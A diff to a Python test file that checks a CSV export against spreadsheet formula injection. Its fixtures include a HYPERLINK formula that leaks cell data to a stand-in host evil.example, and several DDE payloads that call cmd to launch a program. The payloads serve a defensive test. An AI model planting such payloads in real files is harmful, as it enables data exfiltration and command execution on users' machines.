@@ -5,6 +5,7 @@ import csv
 import io
 import json
 import threading
+import unicodedata
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -117,6 +118,74 @@ def test_csv_has_the_rows_of_query_behind_one_line_of_names(engine: Engine) -> N
     assert tuple(names) == _COLUMNS
     wanted = [{**row, "is_bot": str(row["is_bot"]).lower()} for row in expect_rows(engine)]
     assert [dict(zip(names, row, strict=True)) for row in rows] == wanted
+
+
+def begins_a_formula(text: str) -> bool:
+    """Whether a spreadsheet program may take a cell for a formula; written without looking at how the server does."""
+    if text.lstrip("'")[:1] in ("\t", "\r", "\n"):
+        return True
+    for character in text:
+        if character in "=+-@\uff1d\uff0b\uff0d\uff20":
+            return True
+        if character not in "\"'`" and unicodedata.category(character)[0] not in "ZC":
+            return False
+    return False
+
+
+_FORMULAS = (
+    '=HYPERLINK("https://evil.example?leak="&A1,"click")',
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\ttext",
+    "'\ttext",
+    " =1+1",
+    "'=1+1",
+    "''=1+1",
+    '"=1+1',
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "\u200b+1",
+    "\u3000@x",
+    "\x01=1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20x",
+    "+49 30 1234",
+)
+_TEXTS = ("1=1", "a-b", "a@b.example", "'quoted'", "  text", "100", "", "/a=b", "ü=1", "(=1)")
+
+
+@pytest.mark.parametrize("column", ["event_id", "user_id", "referrer"])
+def test_no_cell_of_a_csv_begins_a_formula_and_every_value_can_be_had_back(engine: Engine, column: str) -> None:
+    texts = [text for text in _FORMULAS + _TEXTS if text or column not in ("event", "event_id")]
+    others = ("url", "campaign", "source", "medium")
+    engine.append(
+        *(
+            make_row(**{"event_id": f"e{number:03}", column: text} | dict.fromkeys(others, text))
+            for number, text in enumerate(texts)
+        )
+    )
+    raw = {row[column]: row for row in read_ndjson(engine)}
+    assert set(raw) == set(texts)  # NDJSON has what was sent
+    names, *rows = csv.reader(io.StringIO(read_all(engine, select(ExportFormat.CSV)).decode(), newline=""))
+    back = {}
+    for values in rows:
+        row = dict(zip(names, values, strict=True))
+        assert not [text for text in values if begins_a_formula(text.removeprefix("'")) and not text.startswith("'")]
+        for name, text in row.items():
+            if begins_a_formula(text):  # the rule of docs/api/rest.md
+                row[name] = text.removeprefix("'")
+        back[row[column]] = row
+    assert set(back) == set(texts)
+    for text, row in back.items():
+        assert all(row[name] == text for name in others)
+        assert row["properties"] == raw[text]["properties"]
 
 
 def test_parquet_has_the_rows_of_query(engine: Engine, tmp_path: Path) -> None:
